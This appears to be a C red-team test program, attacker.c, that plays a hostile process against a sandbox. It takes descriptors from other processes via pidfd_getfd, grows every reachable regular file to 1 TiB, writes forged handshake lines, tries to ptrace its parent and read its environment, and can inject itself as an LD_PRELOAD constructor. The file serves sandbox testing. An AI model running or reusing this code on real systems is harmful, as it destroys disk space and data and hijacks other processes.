/*
 * attacker.c: what a hostile managed process does to the sandbox around it,
 * for the red-team tests. Built as a program, and with -DPRELOAD as an
 * LD_PRELOAD library whose constructor attacks from inside whatever loads
 * it (on a design where the caller's environment reaches the init, the init
 * itself). It refuses to run as root.
 *
 * Every regular file it can get a descriptor of (its own, and those it can
 * take with pidfd_getfd from any process it can open) is grown to 1 TiB;
 * with $ATTACK_VICTIM set, every descriptor gets a forged handshake line
 * naming that pid; it
 * tries to ptrace and to read the environment of its parent. One summary
 * line goes to stderr:
 *   attacker: uid U took N fds (pids P), grew G files, ptrace parent: E, environ parent: E
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif

static int grown, taken;
static char pids[256];

/* hit abuses one descriptor: grow it if it is a regular file, forge a line. */
static void hit(int fd, const char *forged)
{
	struct stat st;
	if (fstat(fd, &st) == 0 && S_ISREG(st.st_mode) && ftruncate(fd, 1LL << 40) == 0)
		grown++;
	if (forged[0] && write(fd, forged, strlen(forged)) < 0) {
		/* not writable: fine */
	}
}

static void attack(void)
{
	char forged[64];
	const char *victim = getenv("ATTACK_VICTIM");
	int fd;
	DIR *d;
	struct dirent *e;
	char path[64];
	long r;

	if (getuid() == 0 || geteuid() == 0)
		return;
	forged[0] = 0;
	if (victim)
		snprintf(forged, sizeof forged, "started %s %s\n", victim, victim);
	for (fd = 1; fd < 1024; fd++)
		if (fcntl(fd, F_GETFD) >= 0)
			hit(fd, forged);
	d = opendir("/proc");
	while (d && (e = readdir(d)) != NULL) {
		int pid = atoi(e->d_name), pfd, n, got = 0;
		if (pid <= 0 || pid == getpid())
			continue;
		pfd = syscall(SYS_pidfd_open, pid, 0);
		if (pfd < 0)
			continue;
		for (n = 0; n < 64; n++) {
			int nfd = syscall(SYS_pidfd_getfd, pfd, n, 0);
			if (nfd < 0)
				continue;
			got++;
			taken++;
			hit(nfd, forged);
			close(nfd);
		}
		close(pfd);
		if (got && strlen(pids) < sizeof pids - 12)
			snprintf(pids + strlen(pids), sizeof pids - strlen(pids), " %d", pid);
	}
	if (d)
		closedir(d);
	r = ptrace(PTRACE_ATTACH, getppid(), 0, 0);
	int perr = r < 0 ? errno : 0;
	if (r == 0)
		ptrace(PTRACE_DETACH, getppid(), 0, 0);
	snprintf(path, sizeof path, "/proc/%d/environ", getppid());
	fd = open(path, O_RDONLY);
	int eerr = fd < 0 ? errno : 0;
	if (fd >= 0)
		close(fd);
	dprintf(2, "attacker: uid %d took %d fds (pids%s), grew %d files, ptrace parent: %s, environ parent: %s\n",
		(int)getuid(), taken, pids, grown, perr ? strerror(perr) : "attached", eerr ? strerror(eerr) : "read");
}

#ifdef PRELOAD
__attribute__((constructor)) static void preload(void)
{
	attack();
}
#else
int main(int argc, char **argv)
{
	attack();
	if (argc > 1)
		execvp(argv[1], argv + 1);
	return 0;
}
#endif
